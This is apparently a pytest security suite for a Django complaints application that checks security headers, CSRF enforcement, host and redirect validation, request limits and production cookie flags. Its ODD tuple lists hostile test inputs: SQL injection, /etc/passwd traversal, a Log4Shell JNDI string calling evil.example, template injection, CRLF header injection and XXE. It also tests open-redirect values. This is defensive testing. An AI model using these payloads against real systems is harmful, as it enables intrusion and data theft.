"""What every answer says to the browser, on each address there is; and what no answer says, whatever is asked."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.http import HttpResponse
from django.test import Client

from complaints.models import Complaint
from config.api.problems import PREFIX
from config.headers import UNUSED
from tests.config.test_keys import BASE_DIR, GIVEN
from tests.factories import Play
from tests.migrated import Migrated
from tests.signing_in import signed_in
from tests.test_access_matrix import place_of
from tests.test_consistency import code
from tests.walking import addresses, filled

POLICY = (
    "default-src 'none'; object-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:; "
    "font-src 'self'; media-src 'self'; connect-src 'self'; form-action 'self'; frame-ancestors 'none'; base-uri 'none'"
)
NOTHING = "default-src 'none'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'"
SANDBOX = "sandbox; default-src 'none'"


ALWAYS = {
    "X-Content-Type-Options": "nosniff",
    "X-Frame-Options": "DENY",
    "Referrer-Policy": "same-origin",
    "Content-Security-Policy": POLICY,
    "Cross-Origin-Opener-Policy": "same-origin",
    "Cross-Origin-Resource-Policy": "same-origin",
    "Permissions-Policy": ", ".join(f"{feature}=()" for feature in UNUSED),
}
"""What every answer must have, said a second time: a header that is taken out of the product is missed here."""


def said(response: Any) -> dict[str, str | None]:
    return {name: response.headers.get(name) for name in ALWAYS}


def expected(policy: str) -> dict[str, str]:
    return ALWAYS | {"Content-Security-Policy": policy}


def plain(policy: str | None) -> str:
    """In the order of the settings: django-csp has its own."""
    return "; ".join(sorted(part.strip() for part in (policy or "").split(";")))


def wrong_with(response: Any, policies: set[str]) -> dict[str, Any]:
    """What of it isn't as it must be on every answer."""
    found = said(response)
    faults: dict[str, Any] = {
        name: found[name]
        for name, value in ALWAYS.items()
        if name != "Content-Security-Policy" and found[name] != value
    }
    if plain(found["Content-Security-Policy"]) not in {plain(policy) for policy in policies}:
        faults["Content-Security-Policy"] = found["Content-Security-Policy"]
    if "no-store" not in response.headers.get("Cache-Control", ""):
        faults["Cache-Control"] = response.headers.get("Cache-Control")
    if any(name.lower().startswith("access-control-") for name in response.headers):
        faults["CORS"] = dict(response.headers)
    if response.headers.get("Server") or response.headers.get("X-Powered-By"):
        faults["version"] = dict(response.headers)
    kind = response.headers.get("Content-Type", "charset=utf-8")
    if kind.startswith("text/html") and "charset=utf-8" not in kind:
        faults["Content-Type"] = kind
    return faults


@pytest.fixture
def complaint(play: Play) -> Complaint:
    forwarded = play("forward", "yc.chen", tier="vip")
    registered = play("register", "kf.agent", forwarded)
    return play("accept", "wh.zhang", play("hand_off", "wh.contact", play("dispatch", "kf.agent", registered)))


@contextmanager
def undone() -> Iterator[None]:
    """What an address needs to be there is there for it alone."""
    with transaction.atomic():
        yield
        transaction.set_rollback(True)


ANYTHING: dict[str, list[Any]] = {
    "year": [2026], "pk": [1], "round_number": [1], "place": [1], "part": [1], "content_type_id": [1], "object_id": [1],
    **{name: ["x"] for name in ("number", "token", "verb", "code", "kind", "form", "table", "measure")},
    "app_label": ["complaints"], "url": ["nowhere"],
}  # fmt: skip
"""Whether the thing is there doesn't matter: the token is asked for before anything is looked up."""

OF_A_FILE = {"list_file", "attachment"}
"""Addresses whose answer is a file: its policy lets nothing run at all."""


@pytest.mark.asvs("3.2.1", "3.4.3", "3.4.4", "3.4.5", "3.4.6", "3.4.8", "4.1.1", "14.2.2", "14.3.2")
@pytest.mark.compliance(18)
def test_every_answer_on_every_address_says_it(complaint: Complaint, client_for: Callable[[str], Client]) -> None:
    """Pages, files, refusals and redirects alike; whoever asks, a stranger too, from another site as well."""
    people = {who: client_for(who) for who in ("kf.agent", "sc.officer")} | {"": Client()}
    faults: dict[Any, Any] = {}
    for address in addresses():
        with undone():
            place, files = place_of(address, complaint), {SANDBOX} if address.name in OF_A_FILE else set()
            inside = "sc.officer" if address.name.startswith("admin:") else "kf.agent"
            for who, method in ((inside, "GET"), ("", "POST")):
                response = people[who].generic(method, place, headers={"Origin": "https://elsewhere.example"})
                found = wrong_with(response, {POLICY} | files)
                faults |= {(address.name, who, method, response.status_code): found} if found else {}
        if address.name == "sign_out":
            people |= {who: client_for(who) for who in people if who}
    assert faults == {}


@pytest.mark.asvs("3.4.8", "3.4.6")
@pytest.mark.parametrize(
    "ask",
    [
        lambda client: client.get("/", headers={"host": "evil.example"}),
        lambda client: client.get("/no-such-page/"),
        lambda client: client.get("/?\x00"),
        lambda client: client.post("/sign-in/", data="x" * 3_000_000, content_type="application/x-www-form-urlencoded"),
    ],
    ids=["host", "nowhere", "nul", "too large"],
)
def test_what_goes_wrong_before_a_page_says_it_too(ask: Callable[[Client], HttpResponse], db: None) -> None:
    response = ask(Client())
    assert wrong_with(response, {POLICY, NOTHING}) == {}


def test_an_error_of_ours_says_it_too(client_for: Callable[[str], Client], monkeypatch: pytest.MonkeyPatch) -> None:
    client = client_for("kf.agent")
    client.raise_request_exception = False
    monkeypatch.setattr("complaints.views.desk.render", lambda *_a, **_k: 1 / 0)
    response = client.get("/")
    assert (response.status_code, wrong_with(response, {POLICY})) == (500, {})
    assert "division" not in response.content.decode()


def test_the_browsers_powers_are_refused_by_name() -> None:
    assert len(UNUSED) == len(set(UNUSED)) >= 15
    assert ALWAYS["Permissions-Policy"].count("=()") == len(UNUSED)


# What isn't done, whatever is asked


BY_PROVIDER = "/sign-in/company/out/"
"""Where a sign-on service says who signed out; it has no session, and signs what it says."""


@pytest.mark.asvs("3.5.1", "3.5.3")
@pytest.mark.compliance(18)
def test_every_post_asks_for_its_token(cast: Any) -> None:
    """On every address, signed in or not: without it, with one made up, and with the right one from another site."""
    clients = {"sc.officer": Client(enforce_csrf_checks=True), "": Client(enforce_csrf_checks=True)}
    signed_in(cast["sc.officer"], clients["sc.officer"])
    let_through: dict[Any, Any] = {}
    for who, client in clients.items():
        client.get("/preferences/" if who else "/sign-in/")
        token = client.cookies[settings.CSRF_COOKIE_NAME].value
        for place in [place for address in addresses() for place in filled(address, ANYTHING)]:
            foreign = {"X-CSRFToken": token, "Origin": "https://elsewhere.example"}
            tries = [{}, {"X-CSRFToken": "x" * 64}, foreign] if who else [foreign]
            statuses = [client.post(place, headers=headers).status_code for headers in tries]
            # The interface asks first who it is: without a session there is nothing that another site could use.
            refused = 401 if not who and place.startswith(PREFIX) else 403
            refused = 404 if place == BY_PROVIDER else refused
            let_through |= {(place, who): statuses} if set(statuses) != {refused} else {}
    assert let_through == {}
    page = clients["sc.officer"].post("/preferences/").content.decode()
    assert "页面已过期，没有提交" in page


@pytest.mark.slow
@pytest.mark.asvs("13.4.4")
def test_trace_is_answered_nowhere(client_for: Callable[[str], Client]) -> None:
    """It would send back what came, cookies with it."""
    client = client_for("sc.officer")
    places = [place for address in addresses() for place in filled(address, ANYTHING)]
    answers = {place: client.trace(place) for place in places}
    assert [
        place for place, answer in answers.items() if answer.status_code < 400 and "TRACE" in answer.content.decode()
    ] == []
    assert {answer.status_code for answer in answers.values()} <= {302, 403, 404, 405}


@pytest.mark.asvs("4.1.4", "3.5.3")
@pytest.mark.parametrize("header", ["X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"])
def test_a_method_is_what_it_is(client_for: Callable[[str], Client], header: str) -> None:
    client = client_for("kf.agent")
    assert client.get("/sign-out/", headers={header: "POST"}).status_code == 405
    assert client.post("/livez", {"_method": "GET"}, headers={header: "GET"}).status_code == 405
    for method in ("TRACE", "CONNECT", "PROPFIND", "DELETE"):
        assert client.generic(method, "/complaints/").status_code == 405


@pytest.mark.asvs("4.1.3")
@pytest.mark.parametrize("header", ["X-Forwarded-Host", "X-Host", "X-Original-URL", "X-Rewrite-URL", "Forwarded"])
def test_no_header_names_another_host_or_another_page(header: str, db: None) -> None:
    response = Client().get("/", headers={header: "evil.example/admin/"})
    assert (response.status_code, response.headers["location"]) == (302, "/sign-in/?next=/")


@pytest.mark.parametrize("host", ["evil.example", "localhost.evil.example", "localhost@evil.example", "[::1", "a b"])
def test_another_host_is_a_bad_request(host: str, db: None) -> None:
    response = Client().get("/sign-in/", headers={"host": host})
    assert (response.status_code, "evil" in response.content.decode()) == (400, False)


@pytest.mark.asvs("3.7.2")
@pytest.mark.parametrize(
    "place", ["https://evil.example/", "//evil.example/", "/\\evil.example", "javascript:alert(1)"]
)
def test_nobody_is_sent_elsewhere(place: str, client_for: Callable[[str], Client]) -> None:
    """`next` after signing in, and after choosing a language."""
    asked = client_for("kf.agent").get("/sign-in/", {"next": place})
    chosen = Client().post("/language/", {"language": "en", "next": place})
    assert [answer.headers["location"] for answer in (asked, chosen)] == ["/", "/"]


# Limits of a request


@pytest.mark.asvs("4.2.5", "1.3.3")
def test_a_request_has_its_limits(client_for: Callable[[str], Client], settings: Any) -> None:
    """Fields, bytes, and for somebody who isn't signed in hardly anything at all."""
    many = {f"f{number}": "x" for number in range(settings.DATA_UPLOAD_MAX_NUMBER_FIELDS + 1)}
    client = client_for("kf.agent")
    assert client.post("/preferences/", many).status_code == 400
    assert client.post("/preferences/", {"x": "x" * (settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 1)}).status_code == 400
    for place in ("/sign-in/", "/complaints/forward/"):
        large = SimpleUploadedFile("a.txt", b"x" * settings.DATA_UPLOAD_MAX_MEMORY_SIZE)
        assert Client().post(place, {"username": "a", "file": large}).status_code == 400


# Production


ASK = """
import json, django
django.setup()
from django.conf import settings
from django.core.management import call_command
from django.test import Client
call_command("check", deploy=True, fail_level="WARNING")
client, HSTS = Client(headers={"host": "a.example"}), "Strict-Transport-Security"
said = {}
for scheme in (True, False):
    answer = client.get("/sign-in/", secure=scheme)
    said[str(scheme)] = [answer.status_code, answer.headers.get(HSTS), answer.headers.get("location")]
bad = client.get("/", headers={"host": "b.example"}, secure=True)
said["bad"] = [bad.status_code, bad.headers.get(HSTS)]
client.post("/language/", {"language": "en"}, secure=True)
said["alive"] = [client.get(place, secure=False).status_code for place in ("/livez", "/metrics")]
MARKS = ("secure", "httponly", "samesite", "path", "domain")
said["cookies"] = {name: [cookie[mark] for mark in MARKS] for name, cookie in client.cookies.items()}
OF_THE_SESSION = ("NAME", "SECURE", "HTTPONLY", "SAMESITE", "PATH", "DOMAIN")
said["session"] = [getattr(settings, f"SESSION_COOKIE_{mark}") for mark in OF_THE_SESSION]
said["browser"] = settings.BROWSER_COOKIE_NAME
print("SAID" + json.dumps(said))
"""


OF_TESTS = {"DEVELOPMENT", "DEMO", "DEBUG", "DJANGO_ALLOW_ASYNC_UNSAFE"}
"""What stands in the environment of tests (the last one after the first browser) and in none of production."""


@pytest.mark.slow
@pytest.mark.asvs("3.3.1", "3.3.2", "3.3.3", "3.3.4", "3.4.1", "12.2.1", "13.4.2", "4.1.2")
@pytest.mark.compliance(18)
def test_production_speaks_tls_alone_and_marks_its_cookies(migrated: Migrated, tmp_path: Path) -> None:
    database = migrated.lay_out(tmp_path)
    environ = {key: value for key, value in os.environ.items() if key not in OF_TESTS}
    secrets = {name: f"{value}-{'k3' * 30}abcdefghijklmnop" for name, value in GIVEN.items()}
    environ |= secrets | {
        "VAR_DIR": str(tmp_path), "STATIC_ROOT": str(tmp_path / "static"), "ALLOWED_HOSTS": "a.example",
        "DATABASE_URL": f"sqlite:///{database}", "DJANGO_SETTINGS_MODULE": "config.settings",
    }  # fmt: skip
    subprocess.run(
        [sys.executable, "manage.py", "collectstatic", "--noinput"], cwd=BASE_DIR, env=environ, check=True,
        capture_output=True,
    )  # fmt: skip
    asked = subprocess.run([sys.executable, "-c", ASK], cwd=BASE_DIR, env=environ, capture_output=True, text=True)
    assert "SAID" in asked.stdout, asked.stderr
    assert json.loads(asked.stdout.split("SAID")[1]) == {
        "True": [200, "max-age=31536000; includeSubDomains", None],
        "False": [301, None, "https://a.example/sign-in/"],
        "bad": [400, "max-age=31536000; includeSubDomains"],
        "alive": [200, 404],
        "cookies": {
            "__Host-csrftoken": [True, True, "Lax", "/", ""],
            "__Host-language": [True, True, "Lax", "/", ""],
        },
        "session": ["__Host-sessionid", True, True, "Lax", "/", None],
        "browser": "__Host-browser",
    }


# What strangers send


ODD = (
    b"", b"\x00", b"\xff\xfe", "\ud800".encode("utf-8", "surrogatepass"), b"a" * 5000, b"%", b"&&&==", b"{}", b"[]",
    b"' OR 1=1 --", b'"; DROP TABLE accountability_employee; --', b"1e999", b"-1", b"9" * 400, b"NaN",
    b"../../etc/passwd",
    b"${jndi:ldap://evil.example/a}", b"{{7*7}}", b"a\r\nSet-Cookie: x=1",
    b"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
)  # fmt: skip

KINDS = (
    "application/x-www-form-urlencoded", "application/json", "text/xml", "multipart/form-data; boundary=x",
    "multipart/form-data", "text/plain; charset=utf-7", "application/x-www-form-urlencoded; charset=idna", "x" * 200,
    "",
)  # fmt: skip


@pytest.mark.lesson(10)
@pytest.mark.asvs("1.2.4", "2.2.1", "2.2.2", "16.5.1", "4.1.1")
@pytest.mark.parametrize("place", ["/sign-in/", "/language/", "/livez"])
def test_whatever_a_stranger_sends_is_refused_in_order(place: str, db: None) -> None:
    """In the body under any type, in each field, in the query and in cookies: no error of ours, no header of theirs."""
    client, wrong = Client(), {}
    client.raise_request_exception = False
    for odd in ODD:
        text = odd.decode("latin-1")
        answers = [client.generic("POST", place, odd, content_type=kind) for kind in KINDS]
        answers += [
            client.post(place, dict.fromkeys(("username", "password", "next", "language", text or "x"), text)),
            client.post(
                place, {"username": [text, text], "password": [text] * 3, "next[]": text, "username[$ne]": "x"}
            ),
            client.generic("GET", f"{place}?next={text}&page={text}", QUERY_STRING=f"next={text}"),
        ]
        client.cookies[settings.SESSION_COOKIE_NAME] = "".join(sign for sign in text if sign.isalnum())
        client.cookies[settings.LANGUAGE_COOKIE_NAME] = "".join(sign for sign in text if sign.isalnum())
        answers.append(client.get(place))
        client.cookies.clear()
        found = {answer.status_code for answer in answers} - {200, 302, 400, 403, 405, 422}
        if found or any("x=1" in str(answer.cookies) for answer in answers):
            wrong[odd] = found
    assert wrong == {}


def test_no_page_has_a_policy_of_its_own() -> None:
    """The policy is written once for all pages: what django-csp takes from a page would be left out."""
    own = re.compile(r"\b_?csp_(?:update|replace|exempt|nonce|config)|from csp\b")
    written = [*code(), *(Path(settings.BASE_DIR) / "templates").rglob("*.html")]
    assert [file.name for file in written if own.search(file.read_text())] == ["headers.py"]


def test_the_policy_is_written_once(client_for: Callable[[str], Client], monkeypatch: pytest.MonkeyPatch) -> None:
    client = client_for("kf.agent")
    client.get("/units/")
    monkeypatch.setattr("csp.middleware.build_policy", None)
    monkeypatch.setattr("config.headers.build_policy", None)
    assert plain(client.get("/units/").headers["Content-Security-Policy"]) == plain(POLICY)
